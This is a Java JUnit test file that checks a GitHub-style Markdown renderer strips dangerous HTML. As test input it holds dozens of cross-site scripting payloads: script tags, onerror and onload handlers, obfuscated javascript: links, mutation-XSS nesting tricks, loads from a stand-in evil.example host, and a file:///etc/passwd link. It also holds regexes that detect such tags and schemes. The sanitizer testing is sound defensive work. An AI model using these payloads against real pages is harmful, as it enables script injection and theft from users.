package io.github.diptych.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileMarkdownTest {
  private static final String ALIVE =
      "(?is).*<(script|iframe|object|embed|form|meta|base|link|style|svg|math|input|button|video"
          + "|audio|source|template|frame|body|html)\\b.*";

  private static final String HANDLER = "(?is).*<[^>]*\\son\\w+\\s*=.*";
  private static final String ADDRESS =
      "(?is).*<[^>]*\\s(href|src|cite|action|poster|srcset|background)\\s*=\\s*\"?\\s*"
          + "(javascript|vbscript|data|file|about|blob):.*";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT src=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "a <script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\" onload='alert(2)'>",
        "<img/src=x/onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](<java&#x0A;script:alert(1)>)",
        "[x](&#x6A;avascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](vbscript:x)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](file:///etc/passwd)",
        "[x]\n\n[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![a\"onerror=\"alert(1)](x)",
        "![a](x\"onerror=\"alert(1))",
        "![a](x 'y\"onerror=\"alert(1)')",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=x.swf></object>",
        "<embed src=x.swf>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background:url(https://evil.example)\">x</p>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<form action=https://evil.example><input name=a><button>x</button></form>",
        "<input type=checkbox class=task-list-item-checkbox autofocus onfocus=alert(1)>",
        "<video src=x poster=javascript:alert(1)><source src=x></video>",
        "<audio src=x autoplay></audio>",
        "<details open ontoggle=alert(1)>x</details>",
        "<div onclick=\"alert(1)\" id=\"x\" class=\"y\">z</div>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<body onload=alert(1)>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?><b>x</b>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "```html\n<script>alert(1)</script>\n```",
        "```\"><img/onerror=alert(1)>\nx\n```",
        "# <img src=x onerror=alert(1)>",
        "| <script>alert(1)</script> | a |\n|-|-|\n| <img src=x onerror=alert(1)> | b |",
        "a[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: b",
        "---\ntitle: <script>alert(1)</script>\n---\n",
        "> [!NOTE]\n> <script>alert(1)</script>",
        "<a href=\"https://ok.example\" target=_blank onmouseover=alert(1) ping=https://e.example>",
        "me@example.com\"onclick=\"alert(1)",
        "https://a.example/\"onclick=\"alert(1)",
      })
  void nothing_that_runs_or_loads_by_itself_survives(String markdown) {
    String html = new GithubRenderer().render(markdown);

    assertThat(html)
        .doesNotMatch(ALIVE)
        .doesNotMatch(ADDRESS)
        .doesNotContainIgnoringCase("style=")
        .doesNotContain("diptych-href", "diptych-src");
    assertThat(html.replaceAll("\"[^\"]*\"", "\"\"")).doesNotMatch(HANDLER);
  }

  @Test
  void an_author_s_class_is_dropped_and_an_id_gets_the_prefix() {
    String html = new GithubRenderer().render("<p id=\"top\" class=\"markdown-alert\">x</p>");

    assertThat(html.strip()).isEqualTo("<p id=\"user-content-top\">x</p>");
  }

  @Test
  void an_author_s_box_is_dropped_and_a_task_s_box_stays_disabled() {
    String html =
        new GithubRenderer().render("<input type=\"checkbox\" class=\"x\">\n\n- [x] done");

    assertThat(html).containsOnlyOnce("<input").contains("disabled=\"\"");
  }

  @Test
  void a_tag_that_is_never_closed_goes_on_behind_its_block_as_on_github() {
    assertThat(new GithubRenderer().render("<b>x\n\ny").strip())
        .isEqualTo("<p><b>x</b></p><b>\n<p>y</p>\n</b>");
  }

  @Test
  void a_quote_that_is_never_closed_lets_no_secret_out() {
    var renderer = new GithubRenderer();
    String leak = renderer.render("<div>\n<p title=\"\n\n# heading\n\n- [ ] task\n\n</div>");

    assertThat(leak).doesNotContainPattern("x[0-9a-f]{32}");
  }

  @Test
  void braces_of_templates_stay_as_they_are() {
    assertThat(new GithubRenderer().render("{{ x }} <b>{{y}}</b>").strip())
        .isEqualTo("<p>{{ x }} <b>{{y}}</b></p>");
  }
}
